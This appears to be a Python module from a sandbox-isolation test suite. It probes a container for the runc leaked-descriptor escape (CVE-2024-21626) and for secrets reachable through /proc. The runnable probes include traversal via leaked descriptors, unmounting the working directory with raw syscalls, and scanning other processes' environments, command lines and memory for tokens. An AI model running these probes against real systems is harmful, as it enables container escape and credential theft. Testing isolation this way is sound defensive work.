"""What the daemon had open, in its environment or on its command line (S2, CVE-2024-21626)."""

import os
import re

from hostile import TOKEN, Refused, attack, main, outside, read_token, syscall, token_in


def first(candidates):
    for candidate in candidates:
        try:
            return candidate()
        except (OSError, Refused):
            continue
    raise Refused("no secret in any")


@attack
def descriptor():
    return first(lambda number=number: token_in(os.pread(number, 4096, 0)) for number in range(3, 1024))


@attack
def listed_descriptor():
    names = os.listdir("/proc/self/fd")
    return first(lambda name=name: read_token(f"/proc/self/fd/{name}") for name in names if int(name) > 2)


@attack
def directory_descriptor():
    """`/proc/self/fd/N/../..` of a leaked directory, and openat from it."""
    path = "../" * 40 + outside()
    numbers = range(3, 1024)
    try:
        return first(lambda number=number: read_token(f"/proc/self/fd/{number}/{path}") for number in numbers)
    except Refused:
        return first(lambda number=number: read_token(path, dir_fd=number) for number in numbers)


@attack
def working_directory():
    return first([lambda: read_token("../" * 40 + outside()), lambda: read_token("/proc/self/cwd" + "/.." * 40 + outside())])


@attack
def strange_directory():
    """Whether the working directory lies anywhere but in this sandbox's tree."""
    try:
        place = os.getcwd()
    except FileNotFoundError:  # The kernel calls it unreachable.
        return "unreachable"
    if "cgroup.procs" in os.listdir(".") or not os.path.samestat(os.stat(place), os.stat(".")):
        return "unreachable"
    raise Refused("it is inside")


@attack
def strange_directory_mechanism():
    """The working directory on a mount that is taken away."""
    place = f"/tmp/away-{os.getpid()}"
    os.mkdir(place)
    syscall(165, b"none", place.encode(), b"tmpfs", 0, 0)
    os.chdir(place)
    syscall(166, place.encode(), 2)
    return strange_directory()


@attack
def ignored_signals():
    """What the daemon ignores (`nohup`) would be ignored here."""
    ignored = int(re.search(r"SigIgn:\t(\w+)", open("/proc/self/status").read()).group(1), 16)
    # Python itself ignores SIGPIPE and SIGXFSZ.
    if not ignored & ~(1 << 12 | 1 << 24):
        raise Refused("none")
    return "ignored"


@attack
def environment():
    pids = [name for name in os.listdir("/proc") if name.isdigit()]
    own = "\0".join(f"{name}={value}" for name, value in os.environ.items()).encode()
    files = [lambda pid=pid: token_in(open(f"/proc/{pid}/environ", "rb").read()) for pid in ["self", "1", *pids]]
    return first([lambda: token_in(own), *files])


@attack
def arguments():
    pids = [name for name in os.listdir("/proc") if name.isdigit()]
    return first(lambda pid=pid: token_in(open(f"/proc/{pid}/cmdline", "rb").read()) for pid in ["1", *pids])


@attack
def memory():
    """Everything that is mapped, the stack with its auxiliary vector and strings included."""
    with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as memory:
        for line in maps.readlines():
            start, end, access = re.match(r"(\w+)-(\w+) (\S+)", line).groups()
            if access[0] != "r" or "[vsyscall]" in line or "[vvar" in line:
                continue
            memory.seek(int(start, 16))
            found = TOKEN.search(memory.read(int(end, 16) - int(start, 16)))
            if found:
                return found.group().decode()
    raise Refused("no secret in it")


main()
